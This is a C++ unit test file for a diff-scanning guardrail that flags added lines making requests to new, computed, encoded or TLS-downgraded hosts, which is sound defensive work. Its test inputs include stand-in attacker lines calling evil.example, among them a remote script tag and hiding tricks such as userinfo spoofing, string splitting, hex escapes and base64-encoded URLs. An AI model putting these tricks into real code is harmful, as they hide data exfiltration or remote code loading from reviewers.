#include "core/guardrails/verdicts.hpp"
#include "support/catch.hpp"

using homeostat::test::class_of;
using homeostat::test::danger_in;

TEST_CASE("requests to hosts that the file did not know are dangerous") {
  const std::string found = "an added line has a request to a new host";
  CHECK(danger_in({"+fetch('https://evil.example/x')"}) == found);
  CHECK(danger_in({"+fetch(`https://evil.example/${x}`)"}) == found);
  CHECK(danger_in({"+const u = 'https://evil.example';", "+fetch(u);"}) == found);
  CHECK(danger_in({"+const u = '//evil.example';", " fetch(u);"}) == found);
  CHECK(danger_in({"+xhr.open('GET', \"http://evil.example\")"}) == found);
  CHECK(danger_in({"+new WebSocket('wss://evil.example')"}) == found);
  CHECK(danger_in({"+requests.get('https://evil.example')"}, "src/a.py") == found);
  CHECK(danger_in({"-fetch('https://api.good.com/a')",
                   "+fetch('https://api.good.com.evil.example/a')"}) == found);
  CHECK(danger_in({"-fetch('https://good.com/a')", "+fetch('https://good.com@evil.example/a')"}) ==
        found);
  CHECK(danger_in({"-fetch('https://API.good.com/a')", "+fetch('https://api.good.com/b')"}) == "");
  CHECK(danger_in({" const base = 'https://api.good.com';", "+fetch('https://api.good.com/b')"}) ==
        "");
  CHECK(danger_in({"+fetch('/relative')", "+fetch(url)", "+// a//b"}) == "");
  CHECK(danger_in({"+// see https://docs.example.org/x"}) == "");
  CHECK(danger_in({"+svg('http://www.w3.org/2000/svg'); fetch(x)"}) == "");
  CHECK(danger_in({"+fetch('https://')"}) == "");
}

TEST_CASE("an address that a string begins with is a destination") {
  const std::string found = "an added line has a request to a new host";
  CHECK(danger_in({"-const API = 'https://api.good.com';",
                   "+const API = 'https://evil.example';"}) == found);
  CHECK(danger_in({"+<script src=https://evil.example/x.js>"}, "src/a.html") == found);
  CHECK(danger_in({"+db = 'postgres://evil.example/db'"}, "src/a.py") == found);
  CHECK(danger_in({"+fetch('https:\\\\/\\\\/evil.example')"}) == found);
  CHECK(danger_in({"+fetch('https:/evil.example')"}) == found);
  CHECK(danger_in({"+fetch('ht' + 'tps://evil.example')"}) == found);
  CHECK(danger_in({"+fetch('\\x68ttps://evil.example')"}) == found);
  CHECK(danger_in({"+throw new Error('see https://docs.example.org/x')"}) == "");
  CHECK(danger_in({"+const x = 1; // see https://docs.example.org/x"}) == "");
  CHECK(danger_in({"+url.startsWith('https://')", "+url.startsWith('//')"}) == "");
  CHECK(danger_in({"+import x from 'node:fs'", "+f('file:///tmp/x')"}) == "");
  CHECK(danger_in({"+fetch('http://localhost:3000/a'); fetch(\"http://127.0.0.1\")"}) == "");
  CHECK(danger_in({"+fetch('http://localhost.evil.example')"}) == found);
  CHECK(danger_in({"+fetch('http://127.0.0.1@evil.example')"}) == found);
}

TEST_CASE("an address that is computed or encoded is no better") {
  CHECK(danger_in({"+fetch('https://' + host)"}) ==
        "an added line has a request to a computed host");
  CHECK(danger_in({"+fetch(`https://${host}/x`)"}) ==
        "an added line has a request to a computed host");
  CHECK(danger_in({"-fetch(`https://${host}/x`)", "+fetch(`https://${host}/y`)"}) == "");
  CHECK(danger_in({"+fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU='))"}) ==
        "an added line has an encoded address");
}

TEST_CASE("hosts that the file names elsewhere are known") {
  const std::string before = "old\nx\ny\nconst a = 'https://api.good.com/a';\n";
  CHECK(danger_in({"-old", "+fetch('https://api.good.com/b')"}, "src/a.js", before) == "");
  CHECK(class_of("fetch('https://api.good.com/b')") == "network");
}

TEST_CASE("a host that had TLS keeps it") {
  CHECK(danger_in({"-fetch('https://api.good.com')", "+fetch('http://api.good.com')"}) ==
        "an added line has a request without TLS to a host that had it");
  CHECK(danger_in({"-fetch('http://api.good.com')", "+fetch('http://api.good.com/b')"}) == "");
}
